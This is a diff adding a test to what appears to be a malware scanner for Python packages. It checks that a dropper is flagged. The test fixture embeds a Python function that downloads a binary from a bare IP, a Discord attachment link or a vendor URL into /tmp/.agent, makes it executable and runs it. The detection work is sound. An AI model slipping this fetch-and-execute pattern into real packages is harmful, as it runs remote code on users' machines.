@@ -339,3 +339,21 @@ test('weights that an import fetches into a cache are no program, a library that
   expect(await of('model.bin')).toEqual([]);
   expect(await of('model.so')).toMatchObject([{ class: 'malware', score: 6 }]);
 });
+
+test.each([
+  ['a bare address', 'http://203.0.113.9/agent', { class: 'malware', score: 10 }],
+  ['attachments of a messenger', 'https://cdn.discordapp.com/attachments/1/2/agent', { class: 'malware', score: 10 }],
+  ['a vendor', 'https://get.vendor.invalid/agent', { class: 'suspicious', score: 5 }],
+])('a program that a function fetches from %s and starts', async (_where, address, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, subprocess, urllib.request',
+      'def start():',
+      `    urllib.request.urlretrieve('${address}', '/tmp/.agent')`,
+      "    os.chmod('/tmp/.agent', 0o755)",
+      "    subprocess.Popen(['/tmp/.agent', '--now'])",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject([{ ...expected, context: 'call' }]);
+});
